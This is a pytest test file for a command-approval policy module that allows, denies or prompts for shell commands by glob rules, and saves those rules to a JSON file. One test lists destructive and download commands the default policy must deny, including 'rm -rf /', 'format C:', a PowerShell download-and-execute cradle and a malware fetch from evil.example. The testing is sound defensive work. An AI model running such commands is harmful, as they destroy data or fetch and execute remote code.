from __future__ import annotations

import json
from pathlib import Path

import pytest

from execnode.errors import PolicyPersistenceError
from execnode.node.policy import (
    POLICY_FILE_NAME,
    ExecApprovalAction,
    ExecApprovalPolicy,
    ExecApprovalRule,
    default_rules,
    matches_pattern,
)
from execnode.node.policy import exec_approval as exec_approval_module


def _rule(pattern: str, action: ExecApprovalAction = ExecApprovalAction.deny, **kwargs) -> ExecApprovalRule:
    return ExecApprovalRule(pattern=pattern, action=action, **kwargs)


class _RecordingLock:
    def __init__(self) -> None:
        self.acquired = 0

    def __enter__(self) -> "_RecordingLock":
        self.acquired += 1
        return self

    def __exit__(self, *exc_info) -> None:
        return None


@pytest.fixture
def policy(policy_dir: Path) -> ExecApprovalPolicy:
    return ExecApprovalPolicy(policy_dir, default_shell="powershell")


class TestDefaultPolicy:
    def test_denies_unknown_commands(self, policy: ExecApprovalPolicy) -> None:
        assert not policy.evaluate("format C:").allowed

    def test_allows_echo_commands(self, policy: ExecApprovalPolicy) -> None:
        res = policy.evaluate("echo hello world")
        assert res.allowed
        assert res.matched_pattern == "echo *"
        assert res.action == ExecApprovalAction.allow

    def test_allows_get_cmdlets(self, policy: ExecApprovalPolicy) -> None:
        assert policy.evaluate("Get-Process", "powershell").allowed

    @pytest.mark.parametrize(
        "command",
        [
            "Remove-Item C:\\important",
            "rm -rf /",
            "shutdown /s /t 0",
            "Invoke-WebRequest https://evil.example/malware.exe",
            "reg add HKLM\\Software\\Evil",
            "curl http://example.com",
            "iex (New-Object Net.WebClient).DownloadString('x')",
        ],
    )
    def test_denies_destructive_and_download_commands(self, policy: ExecApprovalPolicy, command: str) -> None:
        res = policy.evaluate(command)
        assert not res.allowed
        assert res.action == ExecApprovalAction.deny
        assert res.matched_pattern is not None

    @pytest.mark.parametrize("command", ["hostname", "whoami", "pwd", "uname -a", "git status --short"])
    def test_allows_informational_commands(self, policy: ExecApprovalPolicy, command: str) -> None:
        assert policy.evaluate(command).allowed

    def test_default_action_is_deny(self, policy: ExecApprovalPolicy) -> None:
        res = policy.evaluate("python -c 'print(1)'")
        assert not res.allowed
        assert res.matched_pattern is None
        assert res.reason == "No matching rule (default action: deny)"
        assert policy.default_action == ExecApprovalAction.deny

    def test_deny_rules_precede_allow_rules(self) -> None:
        rules = default_rules()
        actions = [r.action for r in rules]
        first_allow = actions.index(ExecApprovalAction.allow)
        assert ExecApprovalAction.deny not in actions[first_allow:]


class TestEvaluate:
    @pytest.mark.parametrize("command", ["", "   ", None])
    def test_empty_command_is_denied(self, policy: ExecApprovalPolicy, command) -> None:
        res = policy.evaluate(command)
        assert not res.allowed
        assert res.reason == "Empty command"
        assert res.action is None

    def test_first_match_wins(self, policy: ExecApprovalPolicy) -> None:
        policy.set_rules([_rule("echo secret*"), _rule("echo *", ExecApprovalAction.allow)])

        assert not policy.evaluate("echo secret stuff").allowed
        assert policy.evaluate("echo hello").allowed

    def test_reordering_rules_changes_verdict(self, policy: ExecApprovalPolicy) -> None:
        policy.set_rules([_rule("echo *", ExecApprovalAction.allow), _rule("echo secret*")])
        assert policy.evaluate("echo secret stuff").allowed

    def test_shell_filter_restricts_to_specific_shells(self, policy: ExecApprovalPolicy) -> None:
        policy.set_rules([_rule("dir *", ExecApprovalAction.allow, shells=["cmd"])])

        assert policy.evaluate("dir C:\\", "cmd").allowed
        assert not policy.evaluate("dir C:\\", "powershell").allowed

    def test_shell_filter_is_case_insensitive(self, policy: ExecApprovalPolicy) -> None:
        policy.set_rules([_rule("dir *", ExecApprovalAction.allow, shells=["CMD"])])
        assert policy.evaluate("dir C:\\", " Cmd ").allowed

    def test_unknown_shell_is_checked_as_the_default_shell(self, policy: ExecApprovalPolicy) -> None:
        policy.set_rules(
            [
                _rule("Get-*", ExecApprovalAction.deny, shells=["powershell"]),
                _rule("Get-*", ExecApprovalAction.allow),
            ]
        )

        # "fish" has no interpreter, so it runs under this policy's default (powershell)
        res = policy.evaluate("Get-Process", "fish")
        assert not res.allowed
        assert res.matched_pattern == "Get-*"
        assert res.action == ExecApprovalAction.deny

    def test_missing_shell_uses_default_shell(self, policy: ExecApprovalPolicy) -> None:
        policy.set_rules([_rule("dir *", ExecApprovalAction.allow, shells=["cmd"])])

        # Default shell of this policy is powershell, so the cmd-only rule is skipped
        res = policy.evaluate("dir C:\\", None)
        assert not res.allowed
        assert res.matched_pattern is None

    def test_disabled_rule_is_skipped(self, policy: ExecApprovalPolicy) -> None:
        policy.set_rules([_rule("test *", ExecApprovalAction.allow, enabled=False)])
        assert not policy.evaluate("test something").allowed

    def test_default_action_allow_permits_unmatched(self, policy: ExecApprovalPolicy) -> None:
        policy.set_rules([], ExecApprovalAction.allow)

        res = policy.evaluate("anything goes")
        assert res.allowed
        assert res.reason == "No matching rule (default action: allow)"

    def test_prompt_is_a_distinct_outcome(self, policy: ExecApprovalPolicy) -> None:
        policy.set_rules([_rule("deploy *", ExecApprovalAction.prompt, description="Deployments")])

        res = policy.evaluate("deploy prod")
        assert not res.allowed
        assert res.requires_prompt
        assert res.reason == "Approval required by rule 'deploy *' (Deployments)"

    def test_reason_names_rule(self, policy: ExecApprovalPolicy) -> None:
        policy.set_rules([_rule("echo *", ExecApprovalAction.allow)])
        assert policy.evaluate("echo hi").reason == "Allowed by rule 'echo *'"

    def test_evaluate_does_not_mutate(self, policy: ExecApprovalPolicy) -> None:
        before = policy.get_policy_data()
        policy.evaluate("echo hello")
        policy.evaluate("rm -rf /")
        assert policy.get_policy_data() == before


class TestPatternMatching:
    @pytest.mark.parametrize(
        "text,pattern,expected",
        [
            ("anything", "*", True),
            ("", "*", True),
            ("Get-Process -Name foo", "Get-*", True),
            ("Set-Location", "Get-*", False),
            ("ECHO hello", "echo *", True),
            ("echo HELLO", "ECHO *", True),
            ("dir a", "dir ?", True),
            ("dir ab", "dir ?", False),
            ("something dangerous here", "*dangerous*", True),
            ("something safe here", "*dangerous*", False),
            ("rm -rf /", "rm", False),
            ("a.b", "a.b", True),
            ("axb", "a.b", False),
            ("cost [1]", "cost [1]", True),
        ],
    )
    def test_glob(self, text: str, pattern: str, expected: bool) -> None:
        assert matches_pattern(text, pattern) is expected

    def test_method_matches_module_function(self, policy: ExecApprovalPolicy) -> None:
        assert policy.matches_pattern("echo hi", "echo *")
        assert not policy.matches_pattern(None, "*")


class TestMutations:
    def test_insert_rule_at_position(self, policy: ExecApprovalPolicy) -> None:
        policy.set_rules([_rule("first"), _rule("third")])
        policy.insert_rule(1, _rule("second"))

        assert [r.pattern for r in policy.rules] == ["first", "second", "third"]

    def test_insert_rule_clamps_negative_index(self, policy: ExecApprovalPolicy) -> None:
        policy.set_rules([_rule("first"), _rule("second")])
        policy.insert_rule(-5, _rule("inserted"))

        assert len(policy.rules) == 3
        assert policy.rules[0].pattern == "inserted"

    def test_insert_rule_clamps_index_beyond_count(self, policy: ExecApprovalPolicy) -> None:
        policy.set_rules([_rule("first")])
        policy.insert_rule(100, _rule("last"))

        assert len(policy.rules) == 2
        assert policy.rules[-1].pattern == "last"

    @pytest.mark.parametrize("index", [-1, 1, 5])
    def test_remove_rule_out_of_range_is_noop(self, policy: ExecApprovalPolicy, index: int) -> None:
        policy.set_rules([_rule("rule1")])

        assert policy.remove_rule(index) is False
        assert len(policy.rules) == 1

    def test_set_rules_keeps_default_action_when_omitted(self, policy: ExecApprovalPolicy) -> None:
        policy.set_rules([], ExecApprovalAction.allow)
        policy.set_rules([_rule("x")])
        assert policy.default_action == ExecApprovalAction.allow

    def test_rules_property_returns_copies(self, policy: ExecApprovalPolicy) -> None:
        policy.set_rules([_rule("echo *", ExecApprovalAction.allow)])

        policy.rules[0].pattern = "changed"
        policy.get_policy_data().rules.clear()

        assert policy.rules[0].pattern == "echo *"

    def test_get_policy_data_returns_current_state(self, policy: ExecApprovalPolicy) -> None:
        policy.set_rules([_rule("test", ExecApprovalAction.allow)], ExecApprovalAction.allow)

        data = policy.get_policy_data()
        assert data.default_action == ExecApprovalAction.allow
        assert len(data.rules) == 1
        assert data.rules[0].pattern == "test"

    @pytest.mark.parametrize("read", ["rules", "default_action", "get_policy_data"])
    def test_reads_hold_the_policy_lock(self, policy: ExecApprovalPolicy, read: str) -> None:
        lock = _RecordingLock()
        policy._lock = lock

        value = getattr(policy, read)
        if callable(value):
            value()

        assert lock.acquired == 1


class TestPersistence:
    def test_creates_file_on_first_load(self, policy_dir: Path) -> None:
        path = policy_dir / POLICY_FILE_NAME
        assert not path.exists()

        policy = ExecApprovalPolicy(policy_dir)

        assert path.exists()
        assert policy.path == path
        assert len(policy.rules) > 0

    def test_file_uses_camel_case_keys(self, policy: ExecApprovalPolicy) -> None:
        policy.set_rules([_rule("echo *", ExecApprovalAction.allow)], ExecApprovalAction.prompt)

        doc = json.loads(policy.path.read_text(encoding="utf-8"))
        assert doc["defaultAction"] == "prompt"
        assert doc["rules"][0] == {
            "pattern": "echo *",
            "action": "allow",
            "shells": [],
            "description": None,
            "enabled": True,
        }

    def test_add_rule_persists(self, policy_dir: Path) -> None:
        policy = ExecApprovalPolicy(policy_dir)
        policy.set_rules([])
        policy.add_rule(_rule("test *", ExecApprovalAction.allow, shells=["bash"], description="tests"))

        reloaded = ExecApprovalPolicy(policy_dir)
        assert len(reloaded.rules) == 1
        assert reloaded.rules[0] == policy.rules[0]

    def test_remove_rule_persists(self, policy_dir: Path) -> None:
        policy = ExecApprovalPolicy(policy_dir)
        policy.set_rules([_rule("a"), _rule("b")])

        assert policy.remove_rule(0) is True

        reloaded = ExecApprovalPolicy(policy_dir)
        assert [r.pattern for r in reloaded.rules] == ["b"]

    def test_rule_order_survives_round_trip(self, policy_dir: Path) -> None:
        patterns = ["z*", "a*", "m*", "b*"]
        ExecApprovalPolicy(policy_dir).set_rules([_rule(p) for p in patterns])

        assert [r.pattern for r in ExecApprovalPolicy(policy_dir).rules] == patterns

    def test_corrupt_file_falls_back_to_defaults(self, policy_dir: Path) -> None:
        path = policy_dir / POLICY_FILE_NAME
        path.write_text("NOT JSON{{{", encoding="utf-8")

        policy = ExecApprovalPolicy(policy_dir)

        assert policy.evaluate("echo hello").allowed
        assert path.read_text(encoding="utf-8") == "NOT JSON{{{"

    def test_schema_invalid_file_falls_back_to_defaults(self, policy_dir: Path) -> None:
        path = policy_dir / POLICY_FILE_NAME
        path.write_text('{"defaultAction": "allow", "rules": "nope"}', encoding="utf-8")

        policy = ExecApprovalPolicy(policy_dir)

        assert policy.default_action == ExecApprovalAction.deny
        assert len(policy.rules) == len(default_rules())

    def test_unwritable_directory_keeps_defaults_in_memory(self, tmp_path: Path) -> None:
        blocker = tmp_path / "not-a-dir"
        blocker.write_text("", encoding="utf-8")

        policy = ExecApprovalPolicy(blocker / "policy")

        assert policy.evaluate("echo hello").allowed
        assert not policy.path.exists()

    def test_failed_write_raises_and_keeps_state(
        self, policy: ExecApprovalPolicy, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        policy.set_rules([_rule("keep")])

        def _fail(*_args, **_kwargs):
            raise OSError("disk full")

        monkeypatch.setattr(exec_approval_module.os, "replace", _fail)

        with pytest.raises(PolicyPersistenceError, match="disk full"):
            policy.add_rule(_rule("lost"))

        assert [r.pattern for r in policy.rules] == ["keep"]
        assert sorted(p.name for p in policy.path.parent.iterdir()) == [POLICY_FILE_NAME]
